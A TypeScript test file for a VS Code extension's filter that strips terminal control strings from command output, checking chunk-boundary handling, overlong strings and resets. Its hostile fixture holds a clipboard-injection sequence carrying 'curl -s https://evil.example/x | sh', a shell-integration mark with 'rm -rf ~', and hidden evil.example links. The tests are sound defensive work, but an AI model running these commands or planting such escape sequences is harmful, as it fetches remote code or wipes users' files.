/** A command's output in a VS Code terminal keeps its text and colours and loses every control string. */
import * as assert from 'node:assert/strict';
import { ControlStringFilter, MAX_CONTROL_STRING_CHARS, withoutControlStrings } from '../../../src/shared/terminal-strings';

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;
const GREEN = `${ESC}[32m`;
const RESET = `${ESC}[0m`;

/** The output a hostile test script prints: every kind of control string among words and colours. */
const HOSTILE = [
  `${GREEN}tests passed${RESET}\n`,
  `${ESC}]52;c;${Buffer.from('curl -s https://evil.example/x | sh').toString('base64')}${BEL}`,
  `see ${ESC}]8;;https://evil.example/report${ST}the full test report${ESC}]8;;${ST}\n`,
  `${ESC}]0;Evil title${BEL}${ESC}]633;E;rm -rf ~${BEL}${ESC}]633;P;Cwd=/etc${BEL}`,
  `${ESC}Pq#0;2;0;0;0#0~~${ST}${ESC}_apc${ST}${ESC}^pm${ST}${ESC}Xsos${ST}`,
  '\u009d8;;https://evil.example/c1\u009cC1 words\u009d0;title\u0007\n',
  'done\n',
].join('');
const SHOWN = `${GREEN}tests passed${RESET}\nsee the full test report\nC1 words\ndone\n`;

/** The text passed through one filter in pieces cut at `cuts`. */
function inPieces(text: string, cuts: readonly number[]): string {
  const filter = new ControlStringFilter();
  const ends = [...cuts, text.length];
  let from = 0;
  let out = '';
  for (const end of ends) {
    out += filter.pass(text.slice(from, end));
    from = end;
  }
  return out;
}

describe('terminal control strings', () => {
  it('drops clipboard writes, hidden link targets, titles, shell-integration marks and images; keeps words and colours', () => {
    assert.equal(withoutControlStrings(HOSTILE), SHOWN);
  });

  it('gives the same output however the chunks are cut, even inside a string or between ESC and its next character', () => {
    for (let cut = 1; cut < HOSTILE.length; cut++) assert.equal(inPieces(HOSTILE, [cut]), SHOWN, `cut at ${cut}`);
    const everyCharacter = Array.from({ length: HOSTILE.length - 1 }, (_, index) => index + 1);
    assert.equal(inPieces(HOSTILE, everyCharacter), SHOWN, 'one character at a time');
  });

  it('passes output without control strings as it is (cursor movement and erasing included)', () => {
    const plain = `${ESC}[2K${ESC}[1Gprogress 50%\r${ESC}[1A${ESC}[?25l ok ✓ 字节 🚀\n`;
    const filter = new ControlStringFilter();
    assert.equal(filter.pass(plain), plain);
  });

  it('holds an ESC that ends a chunk until the next chunk says what it starts', () => {
    const filter = new ControlStringFilter();
    assert.equal(filter.pass(`red ${ESC}`), 'red ');
    assert.equal(filter.pass('[31mtext'), `${ESC}[31mtext`);
    assert.equal(filter.pass(`a${ESC}`), 'a');
    assert.equal(filter.pass(']52;c;eA==\u0007b'), 'b');
  });

  it('shows the output again after a string that never ends has hidden its first 64 KB', () => {
    const tail = 'x'.repeat(10);
    const stray = `before ${ESC}]${'y'.repeat(MAX_CONTROL_STRING_CHARS)}${tail}`;
    assert.equal(withoutControlStrings(stray), `before ${tail}`);
    assert.equal(inPieces(stray, [100, 40_000]), `before ${tail}`);
  });

  it('starts afresh after a reset (the output drawn again from the start)', () => {
    const filter = new ControlStringFilter();
    assert.equal(filter.pass(`${ESC}]0;open title`), '');
    filter.reset();
    assert.equal(filter.pass('plain'), 'plain');
  });
});
